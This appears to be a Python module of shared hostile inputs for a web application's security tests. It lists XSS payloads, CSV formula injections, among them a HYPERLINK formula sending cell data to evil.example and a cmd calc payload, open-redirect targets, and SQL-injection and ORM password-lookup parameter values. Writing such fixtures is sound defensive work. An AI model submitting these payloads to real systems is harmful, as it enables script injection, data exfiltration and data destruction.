"""Hostile inputs shared by the security tests, in one place so every test
tries the same list and a new payload reaches every field at once.

Every cross-site scripting payload carries the marker ``xssprobe``. The HTML
checker in ``html_checks`` reports any tag, attribute, script text or URL
that contains the marker, which only happens when a payload was rendered
without escaping or sanitising.
"""

XSS_MARKER = "xssprobe"

XSS_PAYLOADS: tuple[str, ...] = (
    "<script>xssprobe(1)</script>",
    "<img src=x onerror=xssprobe(2)>",
    '"><svg onload=xssprobe(3)>',
    "'><svg onload=xssprobe(4)>",
    "' onmouseover='xssprobe(5)",
    '" onfocus="xssprobe(6)" autofocus="',
    "</textarea><script>xssprobe(7)</script>",
    "</title><script>xssprobe(8)</script>",
    '<a href="javascript:xssprobe(9)">link</a>',
    '<iframe srcdoc="<script>xssprobe(10)</script>"></iframe>',
    "<details open ontoggle=xssprobe(11)>",
    '<math><mtext><table><mglyph><style><img src=x onerror="xssprobe(12)">',
    "[link](javascript:xssprobe(13))",
    "javascript:xssprobe(14)",
    "<xssprobe>custom tag</xssprobe>",
    "{{ request.user.password }}{% debug %}xssprobe",
)

# File names a customer can give an upload. They must come back escaped in
# pages and as a harmless Content-Disposition on download.
XSS_FILE_NAMES: tuple[str, ...] = (
    "<img src=x onerror=xssprobe(20)>.txt",
    '"><script>xssprobe(21)</script>.log',
    "report'onmouseover='xssprobe(22).txt",
)

# Cells that spreadsheet programs run as formulas when a CSV file opens.
CSV_FORMULA_PAYLOADS: tuple[str, ...] = (
    '=HYPERLINK("http://evil.example/?x="&A1,"xssprobe")',
    "+SUM(1,2)*xssprobe",
    "-2+3+cmd|' /C calc'!xssprobe",
    "@SUM(1+1)*xssprobe",
)

# ?next= values that must never send a signed-in user to another site.
OPEN_REDIRECT_TARGETS: tuple[str, ...] = (
    "https://evil.example/",
    "http://evil.example",
    "//evil.example/",
    "///evil.example/",
    "\\\\evil.example",
    "/\\evil.example",
    "https:evil.example",
    "http://127.0.0.1.evil.example/",
    "http://testserver@evil.example/",
    "javascript:alert(document.cookie)",
    "data:text/html,<script>alert(1)</script>",
    " https://evil.example/",
    "%2F%2Fevil.example",
    "https://evil.example/%2F..",
)

# Query parameter names a list, search or export page may read. Unknown names
# are ignored by the pages, so trying all of them on every page is harmless.
CRAFTED_PARAM_NAMES: tuple[str, ...] = (
    "q",
    "search",
    "sort",
    "order",
    "ordering",
    "o",
    "status",
    "project",
    "component",
    "type",
    "priority",
    "organization",
    "reporter",
    "scope",
    "columns",
    "created_after",
    "created_before",
    "updated_after",
    "updated_before",
    "page",
    "per_page",
    "filter",
    "format",
)

# Values for those parameters: field lookups into other tables, SQL
# fragments, wrong types, huge numbers, control characters and markup.
CRAFTED_PARAM_VALUES: tuple[str, ...] = (
    "reporter__password",
    "-reporter__password",
    "organization__members__password",
    "__class__",
    "' OR '1'='1",
    "1; DROP TABLE tickets_ticket; --",
    "1) OR (1=1",
    "%",
    "_",
    "\\",
    "-1",
    "0",
    "99999999999999999999999",
    "2026-13-45",
    "not-a-date",
    "\x00",
    "\u202e",
    "a" * 5000,
    "<script>xssprobe(30)</script>",
)
